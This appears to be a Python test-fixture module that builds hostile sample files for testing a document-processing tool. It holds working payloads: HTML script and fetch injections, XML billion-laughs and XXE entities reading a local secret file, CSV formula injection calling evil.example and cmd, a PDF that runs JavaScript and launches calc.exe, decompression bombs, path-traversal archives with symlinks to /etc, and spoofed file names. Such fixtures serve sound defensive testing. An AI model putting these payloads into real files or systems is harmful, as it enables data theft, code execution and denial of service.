"""Exhibits that mean harm: whoever opens, unpacks, draws or runs one of them fetches, writes or executes something."""

import gzip
import io
import tarfile
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from pathlib import Path

from bench.made_exhibits import pdf_of, pdf_stream
from desk.made_files import COLUMNS, deliveries

BIDI_NAME = "report\u202efdp.exe"
ODD_NAMES = (BIDI_NAME, "two\nlines.txt", "esc\x1b[31m.txt", "p\u0430ypal.txt", "caf\udce9.txt", "-rf", "~root")
"""Names that turn around, break a line, colour a terminal, pass for another, are no UTF-8, or look like an option."""


def markup(url: str) -> str:
    """Everything in HTML that fetches, leads away or runs without being asked, around one address."""
    return (
        f'"\'></style></title></textarea><script src="{url}script.js"></script><script>fetch("{url}fetched")</script>'
        f'<img src="{url}image.png" onerror="fetch(\'{url}onerror\')"><link rel="stylesheet" href="{url}style.css">'
        f'<link rel="preload" as="image" href="{url}preload"><iframe src="{url}frame"></iframe><base href="{url}">'
        f'<video src="{url}video" poster="{url}poster"></video><object data="{url}object"></object><embed src="{url}e">'
        f'<svg onload="fetch(\'{url}svg\')"><image href="{url}svgimage"/></svg><body background="{url}ground">'
        f'<style>@import "{url}import"; p {{ background: url({url}background) }}</style>'
        f'<meta http-equiv="refresh" content="0;url={url}refresh"><form action="{url}form"><input autofocus></form>'
        '<a href="javascript:alert(1)">x</a>'
    )


ENTITIES = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY a "lollollollollollollollollollol">\n'
    + "".join(f'<!ENTITY {chr(ord(b) + 1)} "{("&" + b + ";") * 10}">\n' for b in "abcdefgh")
    + '<!ENTITY secret SYSTEM "file://{secret}">\n<!ENTITY far SYSTEM "{url}entity">\n'
    '<!ENTITY % outer SYSTEM "{url}dtd"> %outer;\n]>\n'
)


def hostile_files(url: str, secret: Path) -> Iterator[tuple[str, bytes]]:
    """Give files by name: `url` is what they would fetch, `secret` a file of the machine that they would take along."""
    harm = markup(url)
    told = f'{harm}<img src="file://{secret}"><img src="../secret.txt"><a href="{secret}">{secret}</a>'
    said = "Israel supplied 60 percent of Azerbaijan's arms imports between 2015 and 2019."
    page = f"<html><head><title>News{harm}</title></head><body><p>{said}</p><p>{told}</p></body></html>"
    yield "page.html", page.encode()
    yield "article.txt", f"20 November 2020\n\n{said}\n\nAn officer said: “{told}” and left.\n\n{harm}\n".encode()
    entities = ENTITIES.replace("{secret}", str(secret)).replace("{url}", url)
    yield "page.xhtml", f"{entities}<html><body><p>{said} &i; &secret; &far;</p></body></html>".encode()
    drawn = f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{url}\')"><script>fetch("{url}")</script>'
    yield "drawing.svg", f'{entities}{drawn}<image href="{url}"/><text>&i;&secret;&far;</text></svg>'.encode()
    yield "places.kml", f"{entities}<kml><Placemark><name>&i;&secret;&far;</name></Placemark></kml>".encode()
    yield "track.gpx", f"{entities}<gpx><trk><name>&i;&secret;&far;</name></trk></gpx>".encode()
    yield "deliveries.csv", _formulas(harm).encode()
    yield "paper.pdf", hostile_pdf(url)
    yield "nul.txt", b"The army fired\0 rockets.\n"
    yield "image.png", _huge_png()
    yield "letter.docx", _zip({"word/document.xml": entities + "<w>&i;&secret;</w>", "word/vbaProject.bin": "macro"})
    yield "sheet.xlsx", _zip({"xl/workbook.xml": entities + "<w>&i;</w>", "xl/worksheets/sheet1.xml": entities})
    yield from hostile_archives()


def hostile_archives() -> Iterator[tuple[str, bytes]]:
    """Archives that swell, or that lead out of the folder they are unpacked in."""
    outside = {"../../escaped.txt": "x", "/srv/escaped.txt": "x", "a/../../escaped.txt": "x", "c:\\escaped.txt": "x"}
    yield "escape.zip", _zip(outside, link="link")
    yield (
        "nested.zip",
        _zip({f"{n}.zip": _zip({f"{m}.zip": _zip({"z": "0" * 9_000_000}) for m in "abc"}) for n in "xyz"}),
    )
    yield "escape.tar", _tar()
    swollen = gzip.compress(bytes(40 << 20), 9, mtime=0)
    yield "bomb.csv.gz", swollen
    yield "trace_full_600864.json", swollen * 4


def _formulas(harm: str) -> str:
    """A register whose cells would be formulas in a spreadsheet, and markup on a page."""
    cells = ('=HYPERLINK(""http://evil.example"")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", harm.replace('"', '""'))
    rows = "".join(
        f'{number},Israel,Azerbaijan,"{cell}",UAV,Aircraft,2015,No,1,No,2016,No,New,1,1,1,No\n'
        for number, cell in enumerate(cells, 10)
    )
    return deliveries(columns=COLUMNS) + rows


def hostile_pdf(url: str) -> bytes:
    """A PDF with JavaScript that runs when it is opened, a program to launch, a form to send, and a file attached."""
    script = f"<< /S /JavaScript /JS (this.submitForm\\('{url}js'\\)) >>"
    acts = f"/OpenAction {script} /AA << /WC << /S /Launch /F (calc) >> >>"
    names = "/Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> /JavaScript << /Names [(a) 8 0 R] >> >>"
    hidden = b"9 0 << /S /Launch /F (calc.exe) >>"
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F1 3 0 R >> >>"
    )
    return pdf_of(
        [
            f"<< /Type /Catalog /Pages 2 0 R {acts} {names} >>".encode(),
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            page + f" /Annots [<< /Type /Annot /Subtype /Link /A << /S /URI /URI ({url}) >> >>] >>".encode(),
            pdf_stream(b"BT /F1 11 Tf 72 700 Td (On 5 October 2020 the town was hit.) Tj ET"),
            b"<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>",
            pdf_stream(b"MZ a program").replace(b"<<", b"<< /Type /EmbeddedFile", 1),
            b"<< /S /JavaScript /JS (app.launchURL\\(1\\)) >>",
            pdf_stream(zlib.compress(hidden)).replace(b"<<", b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", 1),
        ]
    )


def _huge_png() -> bytes:
    """A picture of two hundred bytes that says it is 60,000 pixels wide and high."""
    size = (60_000).to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00"
    return b"\x89PNG\r\n\x1a\n" + b"".join(map(_chunk, (b"IHDR" + size, b"IDAT" + zlib.compress(bytes(100)), b"IEND")))


def _chunk(content: bytes) -> bytes:
    return (len(content) - 4).to_bytes(4, "big") + content + zlib.crc32(content).to_bytes(4, "big")


def _zip(files: Mapping[str, str | bytes], link: str = "") -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
        if link:
            leading = zipfile.ZipInfo(link)
            leading.external_attr = 0o120777 << 16
            archive.writestr(leading, "/etc/passwd")
    return held.getvalue()


def _tar() -> bytes:
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for name, kind, to in (("link", tarfile.SYMTYPE, "/etc"), ("link/escaped.txt", tarfile.REGTYPE, ""),
                               ("../../traces/64/trace_full_600864.json", tarfile.REGTYPE, ""),
                               ("device", tarfile.CHRTYPE, "")):  # fmt: skip
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = kind, to
            entry.size = 4 if kind == tarfile.REGTYPE else 0
            archive.addfile(entry, io.BytesIO(b"evil"))
    return held.getvalue()
